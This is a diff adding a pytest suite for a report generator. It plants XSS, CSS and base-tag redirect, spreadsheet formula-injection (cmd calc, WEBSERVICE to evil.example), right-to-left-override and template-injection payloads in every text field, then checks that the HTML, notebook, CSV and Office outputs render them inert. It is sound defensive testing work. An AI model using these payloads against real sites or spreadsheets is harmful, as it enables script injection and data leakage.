@@ -1,0 +1,238 @@
+"""Attacks in every text field of a project, and the whole report made of it: they come out as the text they are."""
+
+import csv
+import io
+import json
+import re
+import tomllib
+import zipfile
+from collections.abc import Iterator
+from itertools import cycle, islice
+from pathlib import Path
+
+import lxml.html
+import openpyxl
+import pytest
+
+from analysis.records.strategy import read_strategy
+from analysis.text.prose import ProseError, read_prose
+from projects import INDICATORS, make_project
+from real_project import ROOT, run
+from small import observations, toml
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=https://evil.example/p.png onerror=alert(1)>",
+    '"><svg onload=alert(1)><animate onbegin=alert(1)></svg>',
+    "' autofocus onfocus='alert(1)' x='",
+    "<iframe src=//evil.example></iframe>",
+    "</td></table></main><h1 id=taken>taken</h1>",
+    "[click](javascript:alert(1))",
+    "![pixel](https://evil.example/p.png)",
+    "<https://evil.example/auto> [ref]: https://evil.example",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<style>*{background:url(https://evil.example)}</style>",
+    "<base href=https://evil.example><meta http-equiv=refresh content=0;url=https://evil.example>",
+    "<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>",
+    "]]><![CDATA[<script>alert(1)</script>",
+    "<math><mtext><a xlink:href=javascript:alert(1)>x</a></mtext></math>",
+    "\\(\\href{javascript:alert(1)}{x}\\) $$\\unicode{x}$$",
+    "\u202egpj.exe\u202c\u200b",
+    "%7B%7B7*7%7D%7D ${7*7} <%= 7*7 %> #[[7*7]]",
+    '=HYPERLINK("https://evil.example","x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "=WEBSERVICE(\"https://evil.example\")&'file'#$A1",
+]
+BRACES = ["{{ 7*7 }}", "{% raw %}", "{tilgang@2023|__class__}", "{0.__class__}", "{", "}"]
+LETTERS = "ABCDEF"  # of the sub-goals
+ALL = " ".join(ATTACKS)
+ALIVE = re.compile(r"evil\.example|alert\(|javascript:", re.IGNORECASE)
+WORDS = {"alt", "title", "aria-label", "content", "value", "placeholder", "abbr", "summary"}  # attributes that are read
+
+
+def both(text: str) -> dict:
+    return {"nb": text, "en": text}
+
+
+@pytest.fixture(scope="module")
+def project(tmp_path_factory) -> Path:
+    root = make_project(tmp_path_factory.mktemp("attacked"))
+    raw = root / "data" / "raw"
+    for name in ("strategi", "maal", "indikator", "datagrunnlag"):
+        (root / "notebooks" / f"{name}.ipynb").write_bytes((ROOT / "notebooks" / f"{name}.ipynb").read_bytes())
+    for file, document in {
+        "strategy.toml": _strategy(raw / "strategy.toml"),
+        "sources.toml": {"source": [_source(number, attack) for number, attack in enumerate(ATTACKS)]},
+        "known_issues.toml": {"issue": [_issue(number, attack) for number, attack in enumerate(ATTACKS)]},
+        "judgements/2024Q1/lights.toml": _lights(),
+    }.items():
+        (raw / file).parent.mkdir(exist_ok=True)
+        written = "\n".join(f"{key} = {toml(value)}" for key, value in document.items())
+        (raw / file).write_text(written, encoding="utf-8")
+    _write_observations(raw / "observations" / "maalt.csv")
+    for language in ("nb", "en"):
+        for page, keys in {
+            "strategi": ("summary-1", "movements", "status", "follow-up", "insight"),
+            "maal-1": ("1.1", "1.2", "1A", "status", "note", "insight", "theme-1"),
+            "maal-2": ("2.1", "2A", "status", "note", "insight"),
+        }.items():
+            attacks = cycle(_written())  # a part of a slide has room for five
+            sections = "\n\n".join(f"## {key}\n\n" + "\n\n".join(islice(attacks, 5)) for key in keys)
+            (raw / "judgements" / "2024Q1" / f"{page}.{language}.md").write_text(sections, encoding="utf-8")
+    return root
+
+
+def _written() -> list[str]:
+    """Return the attacks without numbers and braces, which no text of the experts may hold."""
+    return [re.sub(r"\d", "x", attack.replace("{", "(").replace("}", ")")) for attack in ATTACKS]
+
+
+def _strategy(file: Path) -> dict:
+    """Return the strategy with an attack for each name that stands in a title, which has room for no more."""
+    document = tomllib.loads(file.read_text(encoding="utf-8"))
+    attacks = cycle(ATTACKS)
+    document["name"] = both(next(attacks))
+    for goal in document["goal"]:
+        goal["name"] = both(next(attacks))
+        number = goal["number"]
+        named = [{"slug": f"nr-{number}-{place}", "name": both(attack)} for place, attack in enumerate(ATTACKS)]
+        goal["subgoal"] = [
+            {"id": f"{number}{letter}", "slug": f"del-{number}{letter.lower()}", "name": both(next(attacks))}
+            for letter in LETTERS
+        ]
+        goal["candidate_indicator"] = [
+            {"id": f"{number}.k{place}", **each, "note": both(ALL)} for place, each in enumerate(named)
+        ]
+        for indicator in goal["indicator"]:
+            indicator["name"] = both(next(attacks))
+            for measure in indicator["measure"]:
+                measure |= {"name": both(next(attacks)), "note": both(ALL)}
+                measure["breaks"] = [{"period": "2023Q1", "kind": "minor", "note": both(ALL)}]
+    return document
+
+
+def _source(number: int, attack: str) -> dict:
+    texts = dict.fromkeys(("title", "publisher", "address", "licence", "note"), attack)
+    return {"slug": f"kilde-{number}", **texts, "accessed": "2024-04-01"}
+
+
+def _issue(number: int, attack: str) -> dict:
+    texts = {"title": both(attack), "text": both(ALL)}
+    return {"id": f"forhold-{number}", "kind": "report", **texts, "items": ["1.1"], "sources": ["kilde-0"]}
+
+
+def _lights() -> dict:
+    items = ["strategy", "goal-1", "goal-2", *INDICATORS.values()]
+    items += [f"{goal}{letter}" for goal in (1, 2) for letter in LETTERS]
+    said = {"reason_code": "other", "reason": both(ALL), "by": ALL, "second": ALL, "date": "2024-04-01"}
+    return {"quarter": "2024Q1", "by": ALL, "light": [{"item": item, "colour": "yellow", **said} for item in items]}
+
+
+def _write_observations(file: Path) -> None:
+    """Write 25 quarters of each measure, every row with one attack for a note and a source of its own."""
+    with file.open("a", encoding="utf-8", newline="") as opened:
+        opened.truncate(len(file.read_text(encoding="utf-8").splitlines()[0].encode()) + 1)
+        rows = csv.writer(opened, lineterminator="\n")
+        for slug in INDICATORS:
+            for number, attack in enumerate(ATTACKS):
+                year = 2017 + number // 4
+                row = [f"andel-{slug}", f"{year}Q{number % 4 + 1}", "", 20 + number, "prosent", "", "", "", "", ""]
+                rows.writerow([*row, f"{year + 1}-02-01", f"kilde-{number}", attack])
+
+
+@pytest.fixture(scope="module")
+def release(project) -> Path:
+    done = run(project, "report", "2024Q1")
+    assert done.returncode == 0, done.stdout + done.stderr
+    return project / "data" / "processed" / "2024Q1"
+
+
+def live(html: str) -> Iterator[str]:
+    """Yield what of a page an attack has become: a tag, an attribute, a script, a style or a comment of its own.
+
+    Experts may link to the web in their texts; a reader has to follow such a link for it to be fetched.
+    """
+    for element in lxml.html.fromstring(html).iter():
+        if not isinstance(element.tag, str):
+            yield from ALIVE.findall(str(element))
+            continue
+        if element.tag in {"script", "style"} and ALIVE.search(element.text or ""):
+            yield f"<{element.tag}> {element.text[:80]}"
+        if element.tag in {"iframe", "base", "form", "math", "svg", "object", "embed"} or element.get("id") == "taken":
+            yield f"<{element.tag}>"
+        for name, value in element.items():
+            linked = element.tag == "a" and name == "href" and value.startswith("https://evil.example/")
+            if name.startswith("on") or (ALIVE.search(value) and name not in WORDS and not linked):
+                yield f"{name}={value[:80]}"
+
+
+def without_signs(text: str) -> str:
+    return re.sub(r"[\s\u202e\u202c\u200b]+", " ", text)
+
+
+@pytest.mark.slow
+def test_no_attack_comes_alive_on_a_page_and_every_one_is_shown(release):
+    shown = ""
+    for file in release.rglob("*.html"):
+        html = file.read_text(encoding="utf-8")
+        assert not list(live(html)), file.name
+        shown += without_signs(lxml.html.fromstring(html).text_content())
+    assert [attack for attack in ATTACKS if without_signs(attack).strip() not in shown] == []
+
+
+@pytest.mark.slow
+def test_no_attack_comes_alive_in_an_executed_notebook(release):
+    for file in release.rglob("*.ipynb"):
+        cells = json.loads(file.read_text(encoding="utf-8"))["cells"]
+        assert not [cell for cell in cells if cell["cell_type"] == "markdown" and ALIVE.search(str(cell["source"]))]
+        outputs = [output.get("data", {}) for cell in cells for output in cell.get("outputs", [])]
+        assert not {kind for data in outputs for kind in data} - {"text/html", "text/plain", "image/png"}
+        for html in ("".join(data["text/html"]) for data in outputs if "text/html" in data):
+            assert not list(live(f"<div>{html}</div>")), file.name
+
+
+@pytest.mark.slow
+def test_no_cell_of_a_table_is_a_formula(release):
+    with zipfile.ZipFile(release / "downloads" / "datapackage.zip") as archive:
+        tables = [archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".csv")]
+        described = json.loads(archive.read("datapackage.json"))
+    assert not [source["path"] for source in described["sources"] if "path" in source]
+    tables += [file.read_text(encoding="utf-8") for file in (release / "tables").glob("*.csv")]
+    cells = [cell for table in tables for row in csv.reader(io.StringIO(table)) for cell in row]
+    formulas = [c for c in cells if c[:1] in set("=+-@\t\r") and not re.fullmatch(r"-?[\d.]+(e[+-]?\d+)?|-?inf", c)]
+    assert not formulas
+    for file in (release / "downloads").glob("*.xlsx"):
+        sheets = openpyxl.load_workbook(file).worksheets
+        written = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]
+        assert {cell.data_type for cell in written} <= {"s", "n", "d"}
+        assert not [cell for cell in written if cell.hyperlink and ALIVE.search(str(cell.hyperlink.target))]
+
+
+@pytest.mark.slow
+def test_no_attack_comes_alive_in_an_office_file_and_no_sign_turns_the_reading_round(release):
+    files = [file for form in ("xlsx", "docx", "pptx") for file in (release / "downloads").glob(f"*.{form}")]
+    assert len(files) == 6
+    for file in files:
+        with zipfile.ZipFile(file) as archive:
+            parts = {name: archive.read(name).decode("utf-8") for name in archive.namelist() if ".xml" in name}
+            links = [archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".rels")]
+        assert ALIVE.search("".join(parts.values())), "the attacks are in the file as words"
+        assert not [name for name, text in parts.items() if "\u202e" in text], file.name
+        assert not [link for link in links if ALIVE.search(link) or 'TargetMode="External"' in link]
+        fields = [found for text in parts.values() for found in re.findall(r"<w:instrText[^>]*>([^<]*)", text)]
+        assert not [field for field in fields if field.strip() not in {"PAGE", "NUMPAGES"}]
+        assert "hlinkClick" not in "".join(parts.values())
+
+
+@pytest.mark.parametrize("attack", BRACES)
+def test_braces_that_are_no_reference_are_refused_with_file_and_line(tmp_path, attack):
+    raw = make_project(tmp_path) / "data" / "raw"
+    (raw / "judgements" / "2024Q1").mkdir()
+    (raw / "judgements" / "2024Q1" / "maal-1.nb.md").write_text(f"## status\n\nSe {attack} her.\n", encoding="utf-8")
+    (raw / "judgements" / "2024Q1" / "maal-1.en.md").write_text("## status\n\nSee here.\n", encoding="utf-8")
+    with pytest.raises(ProseError, match=r"maal-1\.nb\.md.*line 3"):
+        read_prose("2024Q1", "nb", observations([]), read_strategy(raw / "strategy.toml"), raw / "judgements")
